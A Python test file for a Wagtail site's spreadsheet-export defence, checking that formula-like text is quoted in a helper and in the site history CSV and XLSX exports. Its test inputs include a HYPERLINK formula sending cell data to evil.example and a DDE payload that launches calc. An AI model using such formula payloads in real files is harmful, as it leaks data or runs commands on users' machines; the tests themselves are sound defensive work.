"""Text that a spreadsheet program would run as a formula is quoted, in our exports and
in Wagtail's own (the site history report here)."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from tests.factories import EventPageFactory, republish
from toolkit.spreadsheets import spreadsheet_safe

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Details")'


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\rx",
        "  =1",
        "\n@x",
        "＝1",
        "＋1",
        "－1",
        "＠1",
        "-5+3",
        "+A1",
        '-HYPERLINK("http://evil.example")',
        "+cmd|' /C calc'!A0",
        "-x +cmd|a",
    ],
    ids=[
        "equals",
        "plus",
        "minus",
        "at",
        "tab",
        "carriage return",
        "spaces before",
        "newline before",
        "full-width equals",
        "full-width plus",
        "full-width minus",
        "full-width at",
        "sum",
        "cell",
        "call",
        "dde",
        "prose with a call",
    ],
)
def test_text_that_starts_a_formula_is_quoted(text):
    assert spreadsheet_safe(text) == f"'{text}"


@pytest.mark.parametrize(
    "value",
    [
        "Amina Diallo",
        "a = b",
        "",
        42,
        -3,
        None,
        date(2031, 5, 12),
        "-5 is not a formula",
        "- a list item",
        "+3 more seats for civil society",
    ],
)
def test_other_values_stay_as_they_are(value):
    assert spreadsheet_safe(value) == value


@pytest.fixture
def formula_page(db, organiser):
    event = EventPageFactory()
    republish(event, title=FORMULA)  # logs a publish under that title
    return event


def test_wagtails_site_history_csv_quotes_a_formula_title(client, formula_page):
    response = client.get("/admin/reports/site-history/", {"export": "csv"})

    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert cells and set(cells) == {f"'{FORMULA}"}


def test_wagtails_site_history_xlsx_quotes_a_formula_title(client, formula_page):
    response = client.get("/admin/reports/site-history/", {"export": "xlsx"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [c.value for row in sheet.iter_rows() for c in row]
    found = [c for c in cells if isinstance(c, str) and "HYPERLINK" in c]
    assert found and set(found) == {f"'{FORMULA}"}
